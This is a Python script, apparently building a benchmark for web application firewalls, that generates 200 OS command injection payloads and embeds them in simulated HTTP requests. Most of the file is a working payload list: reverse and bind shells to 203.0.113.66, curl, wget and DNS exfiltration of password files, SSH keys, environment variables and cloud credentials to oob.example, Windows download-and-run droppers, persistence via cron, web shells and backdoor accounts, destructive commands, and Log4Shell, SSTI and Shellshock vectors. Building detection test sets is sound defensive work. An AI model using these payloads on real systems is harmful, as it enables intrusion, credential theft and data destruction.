"""rce_bypass.jsonl: 200 hand-written OS command injection attacks in WAF-bypass style.

Unix separators (; | || && & newline, backticks, $()), ${IFS}/$IFS$9, brace
expansion, quote and backslash splitting, globbing (/???/c?t), variable and printf
tricks, base64 piped to a shell, reverse and bind shells, curl/wget/DNS
exfiltration, time delays, droppers and persistence; Windows (& | && after a value,
cmd /c, PowerShell -enc, certutil, bitsadmin, mshta, regsvr32, caret and quote
obfuscation, %COMSPEC%); SSI exec; argument injection; and code-injection vectors
that end in a shell command (eval, SSTI, SpEL, Shellshock, Log4Shell JNDI).
Bare injections ("; id") are put after a plausible value for the parameter they
land in. Each payload is placed in one request part and transport-encoded (see
``_attack.py``). Run: ``.venv/bin/python benchmarks/handmade/build_rce.py``.
"""

from __future__ import annotations

import base64
import re
from typing import Any

from _attack import AttackSet, schedule
from _common import UA, write_set

IP, FILE, EMAIL, TEXT = "ip", "file", "email", "text"

PS_ENC = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')".encode("utf-16le")).decode()
PS_ENC2 = base64.b64encode("whoami; Get-ChildItem Env: | Out-String | Invoke-WebRequest -Uri http://oob.example/e -Method POST".encode("utf-16le")).decode()
BASH_B64 = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.66/443 0>&1").decode()
CURL_B64 = base64.b64encode(b"curl -s http://203.0.113.66/s.sh | sh").decode()

PAYLOADS: list[str | tuple[str, dict[str, str]]] = [
    # --- after an IP / host value -----------------------------------------------------------
    "127.0.0.1;id",
    "8.8.8.8 | id",
    "10.0.0.1 || whoami",
    "localhost && cat /etc/passwd",
    "192.168.1.1 & uname -a &",
    "example.com\nid",
    "1.1.1.1`id`",
    "127.0.0.1$(whoami)",
    "127.0.0.1;${IFS}cat${IFS}/etc/passwd",
    "127.0.0.1;cat$IFS$9/etc/passwd",
    "8.8.4.4;{cat,/etc/passwd}",
    "127.0.0.1;c'a't /etc/shadow",
    "127.0.0.1|\\c\\a\\t /etc/passwd",
    "127.0.0.1;/???/c?t /???/p??s??",
    "127.0.0.1;/bin/ca* /etc/pass*",
    "localhost;a=c;b=at;$a$b /etc/passwd",
    "127.0.0.1;$(printf '\\x69\\x64')",
    "127.0.0.1;echo aWQ= | base64 -d | sh",
    "127.0.0.1;bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
    "127.0.0.1|nc -e /bin/sh 203.0.113.66 4444",
    "127.0.0.1;curl http://oob.example/$(whoami)",
    "127.0.0.1;wget -q -O- http://203.0.113.66/x.sh|sh",
    "127.0.0.1;sleep 5",
    "127.0.0.1 && sleep 10 #",
    "example.org;ping -c 10 127.0.0.1",
    "10.1.1.1\r\nuname -a",
    "example.com;dig $(cat /etc/hostname).oob.example",
    "google.com|/bin/busybox telnetd -l/bin/sh -p9999",
    "8.8.8.8 & w^h^o^a^m^i",
    "127.0.0.1 & whoami",
    "127.0.0.1 | type C:\\Windows\\win.ini",
    "localhost && cmd /c dir C:\\",
    "127.0.0.1 & %COMSPEC% /c whoami",
    "-oProxyCommand=curl${IFS}oob.example/x",
    # --- after a filename -------------------------------------------------------------------
    "report.pdf|cat /etc/shadow",
    "invoice_2024.pdf;rm -rf /tmp/*",
    "photo.jpg`sleep 5`",
    "backup.tar.gz$(id>/tmp/x)",
    "file.txt;curl -d @/etc/passwd http://oob.example/",
    "a.png && /bin/bash -c 'id'",
    "image.png\"; id; echo \"",
    "notes.txt'; whoami; echo '",
    "x.pdf' || curl oob.example/$(hostname) || '",
    "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
    "name.zip -T -TT 'sh -c id'",
    f"report.docx & powershell -enc {PS_ENC}",
    "x & certutil -urlcache -split -f http://203.0.113.66/nc.exe C:\\Windows\\Temp\\nc.exe",
    "Q1.xlsx & reg save HKLM\\SAM C:\\inetpub\\wwwroot\\s.hiv",
    "thumb.gif|$'\\x63\\x61\\x74' /etc/passwd",
    # --- after an e-mail, branch, version, locale, size -----------------------------------
    "user@example.com|id",
    "user@example.com$(sleep 5)",
    "john.doe@example.com`curl oob.example`",
    "main; git --version && id",
    "v1.2.3 && uname -a",
    "en_US;id",
    "png;ls -la /var/www",
    "200x300;cat /etc/issue",
    # --- bare injections (a plausible value is put in front) --------------------------------
    ";${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd",
    ";$(tr '[A-Z]' '[a-z]'<<<'WHOAMI')",
    ";who$@ami",
    ";w'h'o'a'm'i",
    ";wh\"\"oami",
    ";c${u}at /etc/passwd",
    ";/usr/bin/id",
    "&&X=$'\\x20';cat${X}/etc/hosts",
    ";rev<<<'dwssap/cte/ tac'|sh",
    ";$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)",
    "`echo${IFS}d2hvYW1p|base64${IFS}-d`",
    ";cat</etc/passwd",
    ";IFS=,;`cat<<<cat,/etc/passwd`",
    ";{ls,-la,/}",
    ";ls${IFS}-la${IFS}~",
    ";x=$'cat\\x20/etc/passwd';$x",
    "|ca\\\nt /etc/passwd",
    "; /b??/s? -c 'id'",
    ";ech''o $(cat /etc/hostname)",
    ";printf '%s' \"$(id)\" | nc 203.0.113.66 9001",
    f";bash -c {{echo,{BASH_B64}}}|{{base64,-d}}|{{bash,-i}}",
    f"|echo {CURL_B64}|base64 -d|bash",
    ";e\\ch\\o $((7*191))",
    ";expr 1336 + 1",
    ";python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.66\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    "|perl -e 'use Socket;$i=\"203.0.113.66\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.66 4444 >/tmp/f",
    ";php -r '$sock=fsockopen(\"203.0.113.66\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.66\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "`0<&196;exec 196<>/dev/tcp/203.0.113.66/4444; sh <&196 >&196 2>&196`",
    ";socat tcp-connect:203.0.113.66:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
    "|ncat 203.0.113.66 4444 -e /bin/bash",
    ";busybox nc 203.0.113.66 4444 -e sh",
    ";telnet 203.0.113.66 4444 | /bin/bash | telnet 203.0.113.66 4445",
    ";awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.66/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    ";node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 203.0.113.66 4444\")'",
    "$(bash -c 'exec bash -i &>/dev/tcp/203.0.113.66/443 <&1')",
    ";`which nc` -lvnp 4444 -e /bin/sh",
    ";curl -F 'f=@/etc/passwd' https://oob.example/up",
    "|wget --post-file=/etc/shadow http://203.0.113.66/",
    ";nslookup $(whoami).oob.example",
    "`dig +short $(id -u).x.oob.example`",
    ";curl http://oob.example/?h=$(hostname)&u=$(id|base64)",
    ";ping -c 1 $(whoami).oob.example",
    "&& curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- oob.example",
    ";env | curl -X POST --data-binary @- https://oob.example/e",
    "|cat ~/.ssh/id_rsa",
    ";cat /proc/self/environ",
    ";curl -s http://203.0.113.66/m.sh -o /tmp/m.sh;chmod +x /tmp/m.sh;/tmp/m.sh",
    ";echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali' >> ~/.ssh/authorized_keys",
    ";(crontab -l; echo '* * * * * curl -s 203.0.113.66/c|sh') | crontab -",
    ";echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/c.php",
    ";tftp -i 203.0.113.66 GET payload.bin",
    ";cd /tmp; wget http://203.0.113.66/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "|sleep 7",
    "`sleep 5`",
    "$(sleep 6)",
    "; ping -c 11 127.0.0.1 #",
    "||sleep${IFS}5||",
    "';sleep 5;'",
    "\";sleep 5;\"",
    "\nwhoami\n",
    ";id;#",
    "|id|",
    "&&id&&",
    "$(id)",
    "`id`",
    ";uname${IFS}-a",
    "|/usr/bin/env${IFS}bash${IFS}-c${IFS}id",
    ";getent passwd",
    ";cat /etc/passwd | grep -v nologin",
    ";find / -perm -4000 -type f 2>/dev/null",
    ";ps aux",
    ";netstat -an",
    ";ls /home",
    "|uname -a",
    "&& id > /var/www/html/o.txt",
    ";head -n 5 /etc/passwd",
    ";tail -c 200 /etc/shadow",
    ";od -c /etc/passwd|head",
    ";xxd /etc/passwd",
    ";tac /etc/passwd",
    ";nl /etc/passwd",
    ";grep -r password /var/www/.env",
    ";cat .env",
    ";base64 /etc/passwd",
    ";python -c 'import os;os.system(\"id\")'",
    ";perl -e 'print `id`'",
    ";php -r 'system(\"id\");'",
    ";lua -e 'os.execute(\"id\")'",
    ";sh -c \"$(curl -fsSL http://203.0.113.66/i.sh)\"",
    ";bash<(curl -s http://203.0.113.66/x)",
    ";docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
    ";kubectl get secrets -A -o yaml | curl -d @- oob.example",
    ";aws s3 cp s3://corp-backups/db.sql - | curl -T - oob.example",
    ";mysql -uroot -e 'select user,authentication_string from mysql.user'",
    ";killall -9 nginx",
    ";chmod 4755 /bin/bash",
    ";useradd -o -u 0 -g 0 -M -s /bin/bash backdoor",
    ";iptables -F",
    ";history -c; rm -f ~/.bash_history",
    ";sudo -l",
    # --- Windows bare injections ----------------------------------------------------------------
    "| c^m^d /c \"type C:\\boot.ini\"",
    "&& net user hacker P@ssw0rd! /add && net localgroup administrators hacker /add",
    "& ping -n 6 127.0.0.1",
    "| powershell -nop -c \"iex(iwr http://203.0.113.66/p.ps1 -UseBasicParsing)\"",
    "& bitsadmin /transfer j /download /priority high http://203.0.113.66/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    "& mshta http://203.0.113.66/x.hta",
    "& regsvr32 /s /n /u /i:http://203.0.113.66/f.sct scrobj.dll",
    "| more C:\\inetpub\\wwwroot\\web.config",
    "& for /f %i in ('whoami') do nslookup %i.oob.example",
    "& echo %USERNAME% %COMPUTERNAME%",
    "& systeminfo | findstr /B /C:\"OS Name\"",
    "|| tasklist /v",
    "& %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe Get-Process",
    "& ipconfig /all",
    "& wmic process call create \"calc.exe\"",
    "& powershell -c \"Start-Sleep -s 5\"",
    "& cmd.exe /c \"set x=who&& set y=ami&& call %x%%y%\"",
    "| p^o^w^e^r^s^h^e^l^l -c Get-ChildItem C:\\Users",
    "&w\"h\"o\"a\"m\"i",
    "| powershell.exe -w hidden -ep bypass -c \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\"",
    "& forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
    f"& powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {PS_ENC2}",
    "& type %WINDIR%\\System32\\drivers\\etc\\hosts",
    "| dir /s /b C:\\Users\\*.kdbx",
    "& set /a 1336+1",
    # --- SSI -----------------------------------------------------------------------------------
    "<!--#exec cmd=\"id\"-->",
    "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
    "<!--#exec cmd=\"ls -la\" -->",
    "<!--#exec cmd=\"wget http://203.0.113.66/shell.txt -O /var/www/s.php\"-->",
    "<!--#exec cmd=\"dir c:\\\"-->",
    # --- code injection ending in a shell command ---------------------------------------------------
    "';system('cat /etc/passwd');//",
    "__import__('os').system('id')",
    "require('child_process').execSync('cat /etc/passwd').toString()",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${jndi:ldap://203.0.113.66:1389/Exploit}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://oob.example/x}",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { _; } >_[$($())] { echo; /usr/bin/id; }",
    "<?php echo shell_exec($_GET['c']); ?>",
    "${@system('id')}",
]

# Values that a bare injection is appended to, by parameter / cookie / header name.
VALUES = {
    "host": "8.8.8.8", "ip_addr": "192.168.0.1", "target": "10.10.1.1", "domain": "example.org", "server": "mail.example.com",
    "file": "report_2024.pdf", "image": "avatar.png", "name": "app.log", "doc": "Q1 plan.docx", "path": "uploads/2024/04/scan.tiff",
    "branch": "main", "to": "ops@example.com", "lang": "en", "format": "png", "size": "200x200", "version": "1.4.2",
    "repo": "acme/app", "tz": "Europe/Berlin", "printer": "HP-LaserJet-4F", "device": "eth0", "tag": "v2024.04.2", "cmd_id": "backup",
    "interface": "wan", "ntp": "pool.ntp.org", "country": "DE", "job": "nightly-export", "hostname": "web-01", "query": "nginx",
}

CTX = {
    "query": [
        ("netdiag.example-isp.com", "/tools/ping.php", "host", "count=4", IP),
        ("router.example-home.net", "/cgi-bin/diagnostic.cgi", "ip_addr", "action=ping¦submit=Apply", IP),
        ("www.example-saas.io", "/tools/dns", "domain", "type=MX", IP),
        ("nas.example-home.net", "/cgi-bin/traceroute.cgi", "target", "max_hops=20", IP),
        ("monitor.example-corp.com", "/check", "server", "port=25¦timeout=5", IP),
        ("files.example-saas.io", "/download", "file", "inline=0", FILE),
        ("img.example-store.com", "/resize", "image", "w=200¦h=200", FILE),
        ("intranet.example-corp.com", "/logs/view", "name", "lines=100", FILE),
        ("docs.example-corp.com", "/convert", "doc", "to=pdf", FILE),
        ("ci.example-saas.io", "/api/build", "branch", "repo=acme/app", TEXT),
        ("www.example-saas.io", "/mail/test", "to", "", EMAIL),
        ("www.example-cms.org", "/admin/tools/locale", "lang", "", TEXT),
        ("img.example-store.com", "/thumb", "size", "src=products/1043.jpg", TEXT),
        ("api.example-saas.io", "/v1/packages/install", "version", "name=left-pad", TEXT),
        ("camera.example-iot.net", "/cgi-bin/ntp.cgi", "ntp", "enable=1", IP),
        ("printer.example-corp.com", "/hp/device/set", "printer", "queue=default", TEXT),
    ],
    "path": [
        ("files.example-saas.io", "/files/{}", FILE),
        ("netdiag.example-isp.com", "/api/ping/{}", IP),
        ("ci.example-saas.io", "/repos/acme/app/branches/{}/build", TEXT),
        ("img.example-store.com", "/cache/{}", FILE),
        ("www.example-saas.io", "/api/dns/{}/lookup", IP),
    ],
    "form": [
        ("router.example-home.net", "/apply.cgi", "ping_ip", "submit_button=Diagnostics¦action=Apply¦ping_times=3", IP),
        ("netdiag.example-isp.com", "/tools/traceroute", "host", "proto=icmp", IP),
        ("www.example-saas.io", "/admin/backup", "path", "compress=gzip", FILE),
        ("intranet.example-corp.com", "/tools/convert", "file", "format=pdf¦quality=high", FILE),
        ("www.example-saas.io", "/settings/notifications", "to", "event=deploy", EMAIL),
        ("www.example-saas.io", "/admin/system/timezone", "tz", "apply=1", TEXT),
        ("nas.example-home.net", "/cgi-bin/network.cgi", "interface", "mtu=1500", TEXT),
        ("ci.example-saas.io", "/job/run", "job", "params=env%3Dstaging", TEXT),
        ("www.example-shop-admin.com", "/admin/tools/search-logs", "query", "days=7", TEXT),
    ],
    "json": [
        ("api.example-saas.io", "/v1/tools/ping", {"target": {"host": "@@", "count": 3}}, IP),
        ("api.example-saas.io", "/v1/webhooks/test", {"hook": {"dns": {"server": "@@"}}}, IP),
        ("api.example-saas.io", "/v1/media/transcode", {"input": {"file": "@@"}, "preset": "720p"}, FILE),
        ("api.example-saas.io", "/v1/exports", {"export": {"filename": "@@", "format": "csv"}}, FILE),
        ("api.example-saas.io", "/v1/deploy", {"deploy": {"repo": "acme/app", "tag": "@@"}}, TEXT),
        ("api.example-saas.io", "/v1/users/invite", {"invite": {"email": "@@", "role": "viewer"}}, EMAIL),
        ("iot.example-cloud.net", "/api/device/config", {"device": {"hostname": "@@", "ntp": "pool.ntp.org"}}, TEXT),
        ("api.example-saas.io", "/v1/jobs", {"job": {"name": "backup", "args": ["--db", "@@"]}}, TEXT),
    ],
    "multipart": [
        ("files.example-saas.io", "/upload", "filename", [("file", "%PDF-1.4 ...", "report.pdf", "application/pdf")], FILE),
        ("img.example-store.com", "/admin/import", "image", [("zip", "PK\x03\x04...", "images.zip", "application/zip")], FILE),
        ("router.example-home.net", "/cgi-bin/upgrade.cgi", "device", [("firmware", "\x27\x05\x19\x56...", "fw_v2.bin", "application/octet-stream")], TEXT),
        ("www.example-saas.io", "/settings/ssl", "domain", [("cert", "-----BEGIN CERTIFICATE-----\nMIIB...\n-----END CERTIFICATE-----", "cert.pem", "application/x-pem-file")], IP),
    ],
    "cookie": [
        ("www.example-saas.io", "/dashboard", "lang", TEXT),
        ("router.example-home.net", "/index.cgi", "hostname", TEXT),
        ("www.example-store.com", "/", "country", TEXT),
        ("files.example-saas.io", "/", "tz", TEXT),
        ("www.example-saas.io", "/reports", "format", TEXT),
    ],
    "ua": [
        ("www.example-store.com", "/cgi-bin/status", "User-Agent", "", "*"),
        ("www.example-saas.io", "/", "User-Agent", UA["chrome_win"] + " ", "*"),
        ("api.example-saas.io", "/v1/ping", "User-Agent", "", "*"),
    ],
    "referer": [
        ("www.example-store.com", "/cgi-bin/test.cgi", "Referer", "https://www.example-store.com/tools?host=", "*"),
        ("www.example-saas.io", "/admin/", "Referer", "https://www.google.com/search?q=", "*"),
    ],
    "xff": [
        ("www.example-saas.io", "/login", "X-Forwarded-For", "203.0.113.9", "*"),
        ("api.example-saas.io", "/v1/health", "X-Forwarded-For", "10.0.0.1", "*"),
    ],
    "header": [
        ("api.example-saas.io", "/v1/items", "X-Api-Version", "2", "*"),
        ("www.example-saas.io", "/support", "X-Forwarded-Host", "www.example-saas.io", "*"),
        ("app.example-saas.io", "/api/v1/me", "X-Device-Name", "Pixel-7", "*"),
        ("www.example-store.com", "/api/stock", "X-Request-ID", "7f3a", "*"),
    ],
}

SEP = re.compile(r"^(?:[;|&`$\n]|\"|';|\|\||&&)")


def kind_of(p: str) -> str:
    if SEP.match(p):
        return "any"  # a bare injection fits after any value
    if re.match(r"^(\d{1,3}\.){3}\d{1,3}|^(localhost|example\.|google\.com|-o)", p):
        return IP
    if re.match(r"^[\w.-]+\.(pdf|jpg|png|gif|gz|txt|zip|docx|xlsx)\b|^(x|--checkpoint)", p):
        return FILE
    if "@example.com" in p.split(";")[0].split("|")[0]:
        return EMAIL
    return TEXT


def _json_key(tmpl: Any) -> str | None:
    if isinstance(tmpl, dict):
        for k, v in tmpl.items():
            if v == "@@":
                return k
            r = _json_key(v)
            if r:
                return r
    elif isinstance(tmpl, list):
        for v in tmpl:
            r = _json_key(v)
            if r:
                return r
            if v == "@@":
                return None
    return None


def prefixer(p: str, place: str, ctx: tuple[Any, ...]) -> str:
    """A bare injection goes after a plausible value for the field it lands in."""
    if not SEP.match(p) or place in ("ua", "xff", "header", "referer"):
        return p
    if place in ("query", "form", "multipart", "cookie"):
        name = ctx[2]
    elif place == "json":
        name = _json_key(ctx[2]) or "job"
        name = {"email": "to", "filename": "file", "args": "job"}.get(name, name)
    else:
        name = {FILE: "file", IP: "host", TEXT: "branch"}[ctx[-1]]
    return VALUES.get(name, "acme") + p


TARGETS = {"query": 56, "path": 14, "form": 32, "json": 30, "multipart": 12, "cookie": 18, "ua": 10, "referer": 9, "xff": 9, "header": 10}
ENC_W = {"none": 0.33, "url": 0.25, "double": 0.1, "u": 0.08, "html": 0.08, "b64": 0.09, "jsonu": 0.07}

assert len(PAYLOADS) == len({p if isinstance(p, str) else p[0] for p in PAYLOADS}), "duplicate payload"
s = AttackSet(seed=31337, label="rce", contexts=CTX, kind_of=kind_of)
s.prefixer = prefixer
for payload, place, enc, opt in schedule(s.g, PAYLOADS, TARGETS, ENC_W):
    s.add(payload, place, enc, charset=opt.get("charset", "utf-8"))
print("placements", dict(s.place_count), "\nencodings", dict(s.enc_count))
write_set("rce_bypass.jsonl", s.rows, 200)
